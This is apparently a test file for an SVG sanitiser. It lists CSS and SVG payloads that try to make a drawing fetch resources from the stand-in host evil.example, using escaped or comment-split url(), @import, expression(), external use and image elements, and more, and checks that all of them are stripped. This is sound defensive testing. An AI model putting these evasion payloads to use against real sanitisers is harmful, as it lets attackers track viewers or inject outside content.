import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cssReachesOut, sanitiseSvg } from './svg.sanitise.js';

const svg = (inner: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><defs><linearGradient id="grad"><stop offset="0" stop-color="red"/></linearGradient></defs>${inner}<rect id="kept" width="4" height="4"/></svg>`;
const attribute = (css: string) => css.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;');

/** CSS that reached out past the sanitiser, or might in a more lenient browser. */
const BYPASSES = [
  '@\\69mport "https://evil.example/x.css";',
  'rect{fill:u\\72l(https://evil.example/f)}',
  'rect{fill:\\75 rl(https://evil.example/f)}',
  'rect{fill:\\000075rl(https://evil.example/f)}',
  'rect{fill:u\\0rl(https://evil.example/f)}',
  'rect{fill:\\u\\r\\l(https://evil.example/f)}',
  'rect{fill:url(\\"https://evil.example/f\\")}',
  'rect{fill:ur/**/l(https://evil.example/f)}',
  '@im/**/port "https://evil.example/x.css";',
  '@import url(https://evil.example/x.css);',
  'rect{fill:URL( \n "https://evil.example/f" )}',
  'rect{fill:url ("https://evil.example/f")}',
  'rect{background:image-set("https://evil.example/i.png" 1x)}',
  'rect{background:-webkit-image-set("https://evil.example/i.png" 1x)}',
  'rect{background:image("https://evil.example/i.png")}',
  'rect{background:src("https://evil.example/i.png")}',
  'rect{width:expr/**/ession(fetch("https://evil.example/e"))}',
  'rect{behavior:url(https://evil.example/b.htc)}',
  'rect{-moz-binding:url(https://evil.example/b.xml#x)}',
  '@font-face{font-family:F;src:url(https://evil.example/f.woff)}',
  '@font-face{font-family:F;src:local(F),"https://evil.example/f.woff"}',
  'rect{content:"/*";fill:url(https://evil.example/f);content:"*/"}',
  'rect{fill:url(https://evil.example/f)} /* unterminated',
];

/** CSS an ordinary drawing uses, which must come out as it went in. */
const KEPT = [
  '.a{fill:#c03;stroke:rgb(0 0 255 / 50%)}',
  '.a{fill:url(#grad)}',
  ".a{fill:url( '#grad' )}",
  '@media (prefers-color-scheme:dark){.a{fill:white}}',
  '@keyframes spin{to{transform:rotate(360deg)}} .a{animation:spin 2s linear infinite}',
];

describe('sanitiseSvg', () => {
  it.each(BYPASSES)('drops a <style> with %j', async (css) => {
    const clean = await sanitiseSvg(svg(`<style>${css}</style>`));
    expect(clean).toContain('id="kept"');
    expect(clean).not.toContain('evil.example');
  });

  it.each(BYPASSES)('drops a style attribute with %j', async (css) => {
    const clean = await sanitiseSvg(svg(`<rect style="${attribute(css)}"/>`));
    expect(clean).toContain('id="kept"');
    expect(clean).not.toContain('evil.example');
  });

  it.each([
    ['escaped url()', '<rect fill="u\\72l(https://evil.example/f)"/>'],
    ['quoted url()', `<rect filter="url( 'https://evil.example/f' )"/>`],
    ['an animated url()', '<set attributeName="fill" to="u\\72l(https://evil.example/f)"/>'],
    ['a <style> split by a script', '<style>rect{fill:ur<script>x</script>l(https://evil.example/f)}</style>'],
    ['a <style> split by a kept element', '<style>rect{fill:ur<desc>x</desc>l(https://evil.example/f)}</style>'],
    ['a <style> in CDATA', '<style><![CDATA[rect{fill:url(https://evil.example/f)}]]></style>'],
    ['an external <use>', '<use href="https://evil.example/s.svg#a"/>'],
    ['an external <image>', '<image xlink:href="https://evil.example/i.png" width="1" height="1"/>'],
    [
      'a <foreignObject>',
      '<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/i.png"/></foreignObject>',
    ],
    ['a stylesheet instruction', '<?xml-stylesheet href="https://evil.example/x.css"?>'],
  ])('drops %s', async (_what, inner) => {
    const clean = await sanitiseSvg(svg(inner));
    expect(clean).toContain('id="kept"');
    expect(clean).not.toContain('evil.example');
  });

  it.each(KEPT)('keeps a <style> and a style attribute with %j', async (css) => {
    const clean = await sanitiseSvg(svg(`<style>${css}</style><rect class="a" style="${attribute(css)}"/>`));
    expect(clean).toContain(`<style>${css}</style>`);
    expect(clean).toContain(`style="${attribute(css)}"`);
  });

  it('keeps local references in attributes', async () => {
    const clean = await sanitiseSvg(svg(`<rect fill="url(#grad)" stroke="url('#grad')"/><linearGradient id="g2" href="#grad"/>`));
    expect(clean).toContain('fill="url(#grad)"');
    expect(clean).toContain(`stroke="url('#grad')"`);
    expect(clean).toContain('href="#grad"');
  });
});

describe('cssReachesOut', () => {
  /** `url(` spelt any way CSS allows: each letter literal, in either case, or escaped, with comments between. */
  const spelling = (word: string) =>
    fc
      .tuple(
        ...[...word].map((letter) =>
          fc.oneof(
            fc.constantFrom(letter, letter.toUpperCase(), `\\${letter}`, `/**/${letter}`),
            fc
              .tuple(fc.integer({ min: 2, max: 6 }), fc.constantFrom('', ' ', '\t', '\n'))
              .map(([digits, space]) => `\\${letter.charCodeAt(0).toString(16).padStart(digits, '0')}${space}`),
          ),
        ),
      )
      .map((parts) => parts.join(''));

  it('finds a fetching function or @import however it is spelt', () => {
    const css = fc.oneof(
      spelling('url').map((name) => `a{fill:${name}(https://evil.example/f)}`),
      spelling('image-set').map((name) => `a{background:${name}("https://evil.example/f" 1x)}`),
      spelling('import').map((name) => `@${name} "https://evil.example/x.css";`),
    );
    fc.assert(fc.property(css, (text) => cssReachesOut(text)));
  });
});
